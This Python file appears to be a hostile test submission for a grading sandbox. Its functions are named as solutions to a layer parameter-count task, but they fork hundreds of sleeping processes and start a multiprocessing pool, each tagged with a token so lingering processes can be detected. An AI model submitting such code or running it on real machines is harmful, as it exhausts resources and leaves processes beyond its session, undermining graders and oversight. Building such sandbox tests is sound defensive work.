# Attack: fill the machine with processes (os.fork in a loop, bounded at 300 so that a grader without a
# process limit is not taken down by its own test; and a multiprocessing pool), then hang. Each process names
# itself with the token so that the test can find any that outlive the grading.
import ctypes
import json
import multiprocessing
import os
import time

PLACES = json.loads(r'''@PLACES@''')


def _name_myself(*_):
    ctypes.CDLL(None).prctl(15, ("rt" + PLACES["token"]).encode(), 0, 0, 0)  # PR_SET_NAME


def _sleep(_=None):
    _name_myself()
    time.sleep(600)


def conv2d_param_count(in_channels, out_channels, kernel_size, bias=True):
    children = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError as error:
            print("fork refused:", error, flush=True)
            break
        if pid == 0:
            try:
                _sleep()
            finally:
                os._exit(0)
        children += 1
    print("forked", children, "processes", flush=True)
    time.sleep(600)


def linear_param_count(in_features, out_features, bias=True):
    context = multiprocessing.get_context("fork")
    workers = [context.Process(target=_sleep) for _ in range(16)]
    for worker in workers:
        worker.start()
    print("started", len(workers), "processes", flush=True)
    try:
        context.Pool(8, initializer=_name_myself).map_async(_sleep, range(64))
        print("started a pool", flush=True)
    except OSError as error:  # its semaphores live in /dev/shm
        print("no pool:", error, flush=True)
    time.sleep(600)
